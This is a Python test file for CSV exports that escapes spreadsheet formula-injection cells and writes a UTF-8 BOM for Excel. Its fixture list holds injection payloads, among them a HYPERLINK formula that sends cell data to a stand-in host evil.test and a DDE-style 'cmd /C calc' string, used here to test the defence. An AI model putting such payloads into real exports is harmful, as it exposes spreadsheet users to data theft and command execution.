"""CSV downloads and exports: safe in a spreadsheet (no formulas run) and readable by Excel (UTF-8 with BOM)."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd

from core.store.export import BOM, csv_bytes, rows_csv_bytes, safe_cell, write_csv

DANGEROUS = ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)",
             "\t=1+1", "\r=1+1", "  =1+1"]


def test_cells_that_could_start_a_formula_are_escaped():
    for cell in DANGEROUS:
        assert safe_cell(cell) == "'" + cell
    for cell in ["Zoë", "x = 2", "2 - 1", "", "-3", "+2.5", "-1.5e-3", " -4 ", 12, -3.5, None, True]:
        assert safe_cell(cell) == cell


def test_csv_is_utf8_with_a_bom_and_reads_back():
    frame = pd.DataFrame({"name": ["Zoë Ólafsdóttir", "Seán Ó Briain", DANGEROUS[0], None],
                          "=score": [1.5, -2.0, 3.0, 4.0],
                          "answer": ["-3", "@home", "x+1", "ok"],
                          "day": pd.to_datetime(["2026-01-05"] * 4)})
    data = csv_bytes(frame)
    assert data.startswith(BOM.encode("utf-8"))
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "'=score", "answer", "day"]
    assert rows[1][:3] == ["Zoë Ólafsdóttir", "1.5", "-3"] and rows[2][1] == "-2.0"
    assert rows[3][0] == "'" + DANGEROUS[0] and rows[2][2] == "'@home"
    back = pd.read_csv(io.BytesIO(data))              # pandas skips the mark
    assert list(back.columns) == ["name", "'=score", "answer", "day"] and len(back) == 4
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_plain_rows_are_written_the_same_way():
    frame = pd.DataFrame({"name": ["Zoë", "=cmd"], "PIN": ["012 345", "-1+1"]})
    assert rows_csv_bytes(["name", "PIN"], [["Zoë", "012 345"], ["=cmd", "-1+1"]]) == csv_bytes(frame)


def test_write_csv_writes_the_same_bytes(tmp_path: Path):
    frame = pd.DataFrame({"a": ["=1+1", "é"]})
    path = write_csv(frame, tmp_path / "out.csv")
    assert path.read_bytes() == csv_bytes(frame) and [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_the_analytics_downloads_use_it():
    from core.analytics.reports import downloads
    frame = pd.DataFrame({"student": ["=cmd", "Zoë"], "tags": [["a"], {"b": 1}]})
    files = downloads(frame)
    assert files["csv"] == csv_bytes(frame.assign(tags=[json.dumps(["a"]), json.dumps({"b": 1})]))


def test_the_command_line_exports_use_it(tmp_path: Path, capsys):
    from core.cli import main
    rows = [{"student_id": f"=s{s}" if s == 0 else f"s{s}", "item_id": f"i{i}", "correct": int((s + i) % 3 != 0)}
            for s in range(40) for i in range(6)]
    src = tmp_path / "responses.csv"
    pd.DataFrame(rows).to_csv(src, index=False)
    out, abilities = tmp_path / "units.csv", tmp_path / "abilities.csv"
    assert main(["calibrate", "--responses", str(src), "--out", str(out), "--abilities", str(abilities)]) == 0
    for path in (out, abilities):
        assert path.read_bytes().startswith(BOM.encode("utf-8"))
    assert "'=s0" in abilities.read_text(encoding="utf-8-sig")
    assert main(["calibrate", "--responses", str(src), "--out", str(tmp_path / "no" / "such" / "dir.csv")]) == 2
    assert capsys.readouterr().err.strip().startswith("error: cannot write")
